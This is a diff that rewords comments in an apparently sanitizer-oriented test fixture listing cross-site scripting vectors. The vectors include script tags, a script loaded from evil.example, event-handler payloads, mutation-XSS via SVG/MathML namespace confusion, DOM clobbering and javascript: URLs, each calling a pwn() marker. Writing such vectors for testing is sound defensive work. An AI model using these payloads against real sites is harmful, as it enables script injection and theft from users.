@@ -1,7 +1,7 @@
-// Attempts to run code or to reach out, written for this test by kinds: what the corpora of others lack, or
-// know in other words. Each calls `pwn()` if it works.
+// Attempts to run code or to send requests, written for this test by kinds: what other corpora lack, or
+// write differently. Each calls `pwn()` if it works.
 
-/** What is put where a text, a name or HTML is expected. */
+/** Vectors for texts, names and HTML. */
 export const markupVectors = {
   script: '<script>pwn()</script>',
   'script with a source': '<script src="//evil.example/x.js"></script>',
@@ -91,7 +91,7 @@ export const markupVectors = {
   'processing instruction': '<?xml-stylesheet href="javascript:pwn()"?>',
   nesting: `${'<div>'.repeat(300)}<img src=x onerror=pwn()>`,
 
-  // Platforms' newer handlers, and some that are rarely thought of.
+  // Newer handlers of the platform, and rare ones.
   'pointer handlers':
     '<p onpointerenter=pwn() onpointerrawupdate=pwn() ongotpointercapture=pwn() style="position:fixed;inset:0">x</p>',
   'transition handlers':
@@ -130,7 +130,7 @@ export const markupVectors = {
   'foreign names':
     '<svg:script>pwn()</svg:script><x:img xmlns:x="http://www.w3.org/1999/xhtml" src=x onerror=pwn() />',
 
-  // What parses to one tree now and to another later.
+  // Markup that is parsed to another tree the second time.
   'mutation by namespaces':
     '<svg><desc><table><tr><mglyph><style><a title="</style><img src=x onerror=pwn()>"></style></mglyph></table></desc></svg>',
   'mutation by annotation':
@@ -158,7 +158,7 @@ export const markupVectors = {
   'deep forms':
     '<form>'.repeat(260) + '<table><tr><form><input name=parentNode><img src=x onerror=pwn()>',
 
-  // Names that code may trip over.
+  // Names with a meaning in JavaScript and the DOM.
   'clobbered nodes':
     '<form><input name=nodeName><input name=childNodes><input name=removeChild><input name=textContent></form>',
   'clobbered globals':
@@ -168,7 +168,7 @@ export const markupVectors = {
   'prototype names':
     '<p __proto__=x constructor=x>x</p><input name=__proto__><img name=constructor src=x>',
 
-  // Elements that reach out.
+  // Elements that send requests or navigate.
   'image candidates':
     '<img srcset="//evil.example/a.png 1x, javascript:pwn() 2x" src=https://good.example/a.png sizes=auto>',
   'image attributes':
@@ -226,7 +226,7 @@ export const markupVectors = {
   'many attributes': `<p ${Array.from({ length: 2000 }, (_, i) => `on${i}=pwn()`).join(' ')}>x</p>`,
 };
 
-/** What is put where an address is expected. */
+/** Vectors for addresses. */
 export const addressVectors = {
   javascript: 'javascript:pwn()',
   'upper case': 'JaVaScRiPt:pwn()',
